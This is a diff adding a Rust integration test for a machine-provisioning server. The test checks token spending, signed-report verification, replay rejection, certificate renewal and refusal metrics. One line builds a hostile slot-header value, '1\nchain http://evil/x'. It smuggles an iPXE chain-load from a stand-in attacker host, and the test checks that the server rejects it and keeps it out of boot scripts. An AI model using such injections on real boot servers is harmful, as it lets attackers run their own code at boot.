@@ -597,3 +597,100 @@ fn a_machine_renews_only_the_certificates_it_holds_proving_it_has_their_keys() {
         assert!(metrics.contains(&series), "no {series}: {metrics}");
     }
 }
+
+/// A [`herd_api::SignedReport`] of `phone` for `mac` at `seq`, signed by `key`, carrying `cert`.
+fn signed_report(cert: &str, key: &str, mac: &str, seq: u64, phone: serde_json::Value) -> serde_json::Value {
+    let report = serde_json::json!({"mac": mac, "seq": seq, "phone": phone}).to_string();
+    let signature = herd_pki::sign(key, &herd_api::SignedReport::signed_bytes(&report)).unwrap();
+    let signature: String = signature.iter().map(|b| format!("{b:02x}")).collect();
+    serde_json::json!({"machine_cert": cert, "report": report, "signature": signature})
+}
+
+#[test]
+fn once_a_boot_has_joined_its_token_is_spent_and_only_reports_signed_by_the_machines_key_count_once_each() {
+    let mut lab = booted_lab();
+    let script_url = format!("http://10.99.0.2/boot/{NODE1_DASHED}.ipxe");
+    let token = token_of(&curl(&lab, &[&script_url]).1);
+    let config_url = format!("http://10.99.0.2/config/{NODE1_DASHED}?token={token}");
+    let (code, config) = curl(&lab, &[&config_url]);
+    assert_eq!(code, 200, "{config}");
+    let config: serde_json::Value = serde_json::from_str(&config).unwrap();
+    let credential = config_file(&config, herd_api::JOIN_CREDENTIAL_PATH).unwrap();
+    let (key, machine_csr) = herd_pki::request("node1").unwrap();
+    let (member_key, member_csr) = herd_pki::request("node1").unwrap();
+    let join = serde_json::json!({"credential": credential, "machine_csr": machine_csr, "member_csr": member_csr});
+    let (code, answer) = post_json(&lab, &format!("/join/{NODE1_DASHED}"), &join, None);
+    assert_eq!(code, 200, "{answer}");
+    let joined: herd_api::JoinAnswer = serde_json::from_str(&answer).unwrap();
+    // The token (in the node's /proc/cmdline, readable by its containers) is spent: no phone-home, no config.
+    let phone_url = format!("/phone-home/{NODE1_DASHED}?token={token}");
+    assert_eq!(post_json(&lab, &phone_url, &serde_json::json!({"stage": "healthy"}), None).0, 403);
+    assert_eq!(curl(&lab, &[&config_url]).0, 403);
+    let slots = |release: &str| {
+        serde_json::json!({
+            "disk": "/dev/vda", "booted": "a",
+            "slots": [{"slot": "a", "flags": {"priority": 2, "tries": 0, "successful": true}, "offset": 1048576,
+                       "size": 1 << 30,
+                       "header": {"magic": "herd-slot/1", "name": "herd-os", "release": release, "key": "k",
+                                  "kernel_version": "6.12", "root_hash": "ab".repeat(32), "data_bytes": 0,
+                                  "hash_offset": 0}}],
+        })
+    };
+    let report_path = format!("/report/{NODE1_DASHED}");
+    let send = |lab: &Lab, body: &serde_json::Value, from: Option<&str>| post_json(lab, &report_path, body, from);
+    let cert = joined.machine_cert.clone();
+    let configured = serde_json::json!({"stage": "configured", "detail": "applied", "slots": slots("2026.11.0")});
+    let first = signed_report(&cert, &key, NODE1, 10, configured.clone());
+    let (code, reply) = send(&lab, &first, None);
+    assert_eq!(code, 200, "{reply}");
+    // Once: the same report again is stale, and the answer says above what to send.
+    let (code, reply) = send(&lab, &first, None);
+    assert_eq!((code, reply.as_str()), (409, r#"{"last":10}"#));
+    // Refused: another key's signature; a report signed for another MAC; another address; a hostile slot header
+    // (signed by the machine itself, it is still checked, and kept nowhere).
+    let (stranger, _) = herd_pki::request("node1").unwrap();
+    let (code, why) = send(&lab, &signed_report(&cert, &stranger, NODE1, 11, configured.clone()), None);
+    assert_eq!((code, why.trim()), (403, "signature: the signature is not of this message by the certificate's key"));
+    let (code, why) = send(&lab, &signed_report(&cert, &key, "52:54:00:99:02:01", 12, configured.clone()), None);
+    assert_eq!(code, 403, "{why}");
+    assert!(why.starts_with("report.mac: signed for"), "{why}");
+    lab.client_address("10.99.0.96/24");
+    let (code, why) = send(&lab, &signed_report(&cert, &key, NODE1, 13, configured.clone()), Some("10.99.0.96"));
+    assert_eq!((code, why.trim()), (403, "not node1's address"));
+    let hostile = serde_json::json!({"stage": "healthy", "slots": slots("1\nchain http://evil/x")});
+    let (code, why) = send(&lab, &signed_report(&cert, &key, NODE1, 14, hostile), None);
+    assert_eq!(code, 400, "{why}");
+    assert!(why.starts_with("report.phone.slots.slots[0].header.release"), "{why}");
+    let (code, reply) =
+        send(&lab, &signed_report(&cert, &key, NODE1, 15, serde_json::json!({"stage": "healthy"})), None);
+    assert_eq!(code, 200, "{reply}");
+    // After a renewal only the new certificate signs; a replay stays stale across a kill -9.
+    let renewal = serde_json::json!({"machine_cert": cert,
+        "machine_csr": herd_pki::request_for(&key, "machine:node1").unwrap(),
+        "member_cert": joined.member_cert, "member_csr": herd_pki::request_for(&member_key, "member:node1").unwrap()});
+    let (code, answer) = post_json(&lab, &format!("/renew/{NODE1_DASHED}"), &renewal, None);
+    assert_eq!(code, 200, "{answer}");
+    let renewed: herd_api::JoinAnswer = serde_json::from_str(&answer).unwrap();
+    let (code, why) = send(&lab, &signed_report(&cert, &key, NODE1, 16, configured.clone()), None);
+    assert_eq!(code, 403, "{why}");
+    assert!(why.contains("no longer node1's"), "{why}");
+    let (_, metrics) = curl(&lab, &["http://10.99.0.2/metrics"]);
+    for reason in ["bad-signature", "wrong-mac", "wrong-source", "invalid-report", "stale", "superseded"] {
+        let series = format!("herd_http_report_refused_total{{reason=\"{reason}\"}} 1");
+        assert!(metrics.contains(&series), "no {series}: {metrics}");
+    }
+    let latest = signed_report(&renewed.machine_cert, &key, NODE1, 17, configured);
+    let (code, reply) = send(&lab, &latest, None);
+    assert_eq!(code, 200, "{reply}");
+    lab.kill9();
+    lab.start();
+    assert_eq!(send(&lab, &latest, None), (409, r#"{"last":17}"#.to_owned()));
+    let (_, script) = curl(&lab, &[&script_url]);
+    assert!(!script.contains("evil"), "{script}");
+    let (_, shown) = lab.admin(&[], "/api/v1/machines/node1");
+    assert!(!shown.contains("evil") && shown.contains("2026.11.0"), "{shown}");
+    let (_, timeline) = lab.admin(&[], "/api/v1/machines/node1/timeline");
+    assert_eq!(timeline.matches("phone-home:configured").count(), 2, "{timeline}");
+    assert_eq!(timeline.matches("phone-home:healthy").count(), 1, "{timeline}");
+    assert_eq!(timeline.matches("report-refused").count(), 5, "{timeline}");
+}
